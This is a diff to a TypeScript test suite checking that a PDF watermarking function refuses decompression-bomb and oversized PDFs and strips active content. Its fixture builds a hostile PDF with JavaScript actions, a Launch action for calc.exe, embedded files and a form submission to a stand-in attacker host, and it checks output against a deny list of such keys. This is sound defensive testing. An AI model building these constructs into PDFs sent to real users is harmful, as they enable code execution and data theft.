@@ -1,4 +1,3 @@
-import { deflateSync } from "node:zlib";
 import {
   PDFArray,
   PDFDict,
@@ -11,7 +10,9 @@ import {
   decodePDFRawStream,
 } from "pdf-lib";
 import { materialsStamp } from "~/content/portal";
-import { stampPdf, type Stamp } from "~/server/pdf-stamp.server";
+import { PDF_STAMP_LIMITS } from "~/lib/material-limits";
+import { PdfTooCostly, stampPdf, type Stamp } from "~/server/pdf-stamp.server";
+import { deflateBombPdf, manyPagesPdf } from "../support/hostile-pdfs";
 import { pdfPageRuns, pdfPageTexts, type PlacedText } from "../support/pdf-text";
 
 const DOWNLOAD_ID = "123e4567-e89b-12d3-a456-426614174000";
@@ -118,13 +119,20 @@ describe("stampPdf", () => {
     });
   });
 
-  it("refuses a page whose content inflates past 128 MiB, as a PDF built to exhaust memory", async () => {
-    const pdf = await PDFDocument.load(await threePages());
-    const bomb = deflateSync(Buffer.alloc(128 * 1024 * 1024 + 1, " "));
-    pdf
-      .getPage(0)
-      .node.set(PDFName.of("Contents"), pdf.context.register(pdf.context.stream(bomb, { Filter: "FlateDecode" })));
-    await expect(stampPdf(await pdf.save(), stampOf(["Prepared for Jane Doe"]))).rejects.toThrow(RangeError);
+  it("refuses a document whose pages' content inflates past 32 MiB together, each stream well under it", async () => {
+    const bomb = await deflateBombPdf({ pages: 4, mibEach: 12 });
+    const refusal = stampPdf(bomb, stampOf(["Prepared for Jane Doe"]));
+    await expect(refusal).rejects.toThrow(PdfTooCostly);
+    await expect(refusal).rejects.toMatchObject({ reason: "content" });
+    // Under the limit, the same pages stamp.
+    expect(
+      await pdfPageTexts(await stampPdf(await deflateBombPdf({ pages: 2, mibEach: 12 }), stampOf(["Jane"]))),
+    ).toHaveLength(2);
+  });
+
+  it(`refuses a document of more than ${PDF_STAMP_LIMITS.pages} pages before stamping any`, async () => {
+    const refusal = stampPdf(manyPagesPdf(PDF_STAMP_LIMITS.pages + 1), stampOf(["Prepared for Jane Doe"]));
+    await expect(refusal).rejects.toMatchObject({ reason: "pages", amount: PDF_STAMP_LIMITS.pages + 1 });
   });
 
   it("keeps accented letters the font has, drops accents it lacks, and shows other characters as ?", async () => {
@@ -253,4 +261,79 @@ describe("stampPdf", () => {
       expect(watermark.map((run) => run.str).join("")).toContain(DOWNLOAD_ID);
     });
   });
+
+  it("drops every script, action that is not a link, and attached file from the copy, keeping its links", async () => {
+    const stamped = await stampPdf(await activeContentPdf(), stampOf(["Prepared for Jane Doe"]));
+    const copy = await PDFDocument.load(stamped);
+    const everything = copy.context
+      .enumerateIndirectObjects()
+      .map(([, object]) => (object instanceof PDFRawStream ? object.dict.toString() : object.toString()))
+      .join("\n");
+    for (const active of [
+      "/OpenAction",
+      "/AA",
+      "/AF",
+      "/JavaScript",
+      "/JS",
+      "/Launch",
+      "/SubmitForm",
+      "/EmbeddedFile",
+      "/FileAttachment",
+      "/Next",
+    ])
+      expect(everything, active).not.toContain(active);
+    // Not even unreferenced: the attachments' bytes are not in the file.
+    expect(Buffer.from(stamped).toString("latin1")).not.toContain("ATTACHED-UNSTAMPED");
+    // The page's link to the firm's site, and its link to another page, stay; the text is still there.
+    expect(everything).toContain("(https://example.com/)");
+    expect(everything).toContain("/GoTo");
+    expect((await pdfPageTexts(stamped))[0]).toContain(bodyText(1));
+  });
 });
+
+/**
+ * The three pages, with what a copy must not carry: a script run on opening, on closing, and by name; an
+ * attached file in the name tree and as an associated file; a page's launch action on opening; a link that
+ * runs a script, one that submits a form, a web link and an internal one followed by a script, and a file
+ * attachment annotation.
+ */
+async function activeContentPdf() {
+  const pdf = await PDFDocument.load(await threePages());
+  const { context, catalog } = pdf;
+  const script = (code: string) => context.obj({ S: "JavaScript", JS: PDFString.of(code) });
+  const attachment = (label: string) => {
+    const bytes = context.register(context.stream(`ATTACHED-UNSTAMPED ${label}`, { Type: "EmbeddedFile" }));
+    return context.register(
+      context.obj({ Type: "Filespec", F: PDFString.of(`${label}.txt`), EF: context.obj({ F: bytes }) }),
+    );
+  };
+  catalog.set(PDFName.of("OpenAction"), context.register(script("app.alert('opened')")));
+  catalog.set(PDFName.of("AA"), context.obj({ WC: script("app.alert('closed')") }));
+  catalog.set(
+    PDFName.of("Names"),
+    context.obj({
+      JavaScript: context.obj({ Names: [PDFString.of("doc"), context.register(script("app.alert('named')"))] }),
+      EmbeddedFiles: context.obj({ Names: [PDFString.of("named.txt"), attachment("named")] }),
+    }),
+  );
+  catalog.set(PDFName.of("AF"), context.obj([attachment("associated")]));
+  const page = pdf.getPage(0);
+  page.node.set(PDFName.of("AA"), context.obj({ O: context.obj({ S: "Launch", F: PDFString.of("calc.exe") }) }));
+  const link = (action: PDFDict) =>
+    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 100, 20], A: action }));
+  const goTo = context.obj({ S: "GoTo", D: [pdf.getPage(2).ref, PDFName.of("Fit")] });
+  goTo.set(PDFName.of("Next"), script("app.alert('after the jump')"));
+  page.node.set(
+    PDFName.of("Annots"),
+    context.obj([
+      link(script("app.alert('clicked')")),
+      link(context.obj({ S: "SubmitForm", F: PDFString.of("https://attacker.example/") })),
+      link(context.obj({ S: "URI", URI: PDFString.of("https://example.com/") })),
+      link(goTo),
+      context.register(
+        context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [0, 30, 20, 50], FS: attachment("annotation") }),
+      ),
+    ]),
+  );
+  return pdf.save();
+}
